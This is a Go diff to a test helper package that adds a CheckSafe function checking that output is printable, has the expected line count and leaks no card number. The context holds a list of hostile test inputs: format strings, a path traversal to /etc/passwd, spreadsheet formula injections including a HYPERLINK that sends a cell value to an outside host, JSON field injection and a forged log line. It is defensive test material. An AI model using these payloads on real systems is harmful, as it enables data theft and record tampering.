@@ -1,6 +1,13 @@
 package screentest
 
-import "strings"
+import (
+	"strings"
+	"testing"
+	"unicode"
+	"unicode/utf8"
+
+	"motoconsole/gateway"
+)
 
 // Hostile are texts that attack a terminal, a log, a table or a reader. Any text
 // from outside may be one of them.
@@ -24,5 +31,23 @@ func Hostile() []string {
 		// Texts for other readers.
 		"%s%n%!d", "{{.}}", "../../etc/passwd", `=HYPERLINK("http://e/"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", `"=1`, "＝1", " =1", "'=1",
 		`","x":"`, "0 ", "null", "1050.0", "1e3", "-1", "4111111111111111", "4111 1111 1111 1111", "\n" + `{"level":"info","msg":"APPROVED"}`,
+	}
+}
+
+// CheckSafe fails unless the text is printable and has this number of lines.
+func CheckSafe(t testing.TB, text string, lines int, where string) {
+	t.Helper()
+	if !utf8.ValidString(text) || strings.Count(text, "\n") != lines {
+		t.Errorf("%s: %d lines, want %d, or no UTF-8: %q", where, strings.Count(text, "\n"), lines, text)
+	}
+	for _, r := range strings.ReplaceAll(text, "\n", "") {
+		if !unicode.IsPrint(r) {
+			t.Errorf("%s: %U gets out", where, r)
+			return
+		}
+	}
+	// The columns of a table may together read as a number that no value holds.
+	if where != "table" && gateway.HoldsCardNumber(text) {
+		t.Errorf("%s: a card number gets out", where)
 	}
 }
